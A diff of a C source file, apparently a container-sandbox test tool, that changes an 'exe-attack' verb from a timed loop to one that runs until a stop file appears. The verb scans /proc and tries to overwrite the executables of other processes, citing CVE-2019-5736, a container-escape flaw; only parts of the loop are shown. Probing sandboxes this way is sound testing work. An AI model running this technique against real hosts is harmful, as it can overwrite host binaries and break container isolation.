@@ -17,7 +17,6 @@
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
-#include <time.h>
 #include <unistd.h>
 
 #include "out.h"
@@ -166,14 +165,6 @@ int verb_netif(int argc, char **argv)
 	return 0;
 }
 
-static long long now_ms(void)
-{
-	struct timespec t;
-
-	clock_gettime(CLOCK_MONOTONIC, &t);
-	return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
-}
-
 /*
  * Can the file behind an O_PATH descriptor be written to?  What is written is what was there: the attack may
  * succeed on a machine that is still needed.
@@ -197,8 +188,8 @@ static int overwrite(int held)
 }
 
 /*
- * exe-attack MILLISECONDS: hold on to the executable of every process that appears in /proc, and try to
- * overwrite it for as long as the verb runs (CVE-2019-5736).
+ * exe-attack FILE: hold on to the executable of every process that appears in /proc, and try to overwrite it
+ * until FILE is there (CVE-2019-5736).
  */
 int verb_exe_attack(int argc, char **argv)
 {
@@ -208,9 +199,10 @@ int verb_exe_attack(int argc, char **argv)
 		int fd;
 	} seen[512];
 	int count = 0, mine = getpid();
-	long long until = now_ms() + (argc > 1 ? atol(argv[1]) : 1000);
 	struct stat self = {0};
 
+	if (argc != 2)
+		return 125;
 	stat("/proc/self/exe", &self);
 	j_open('{');
 	j_kstr("verb", "exe-attack");
@@ -221,7 +213,7 @@ int verb_exe_attack(int argc, char **argv)
 	j_kstr("verb", "exe-attack");
 	j_key("won");
 	j_open('[');
-	while (now_ms() < until) {
+	while (access(argv[1], F_OK) < 0) {
 		DIR *proc = opendir("/proc");
 		struct dirent *entry;
 
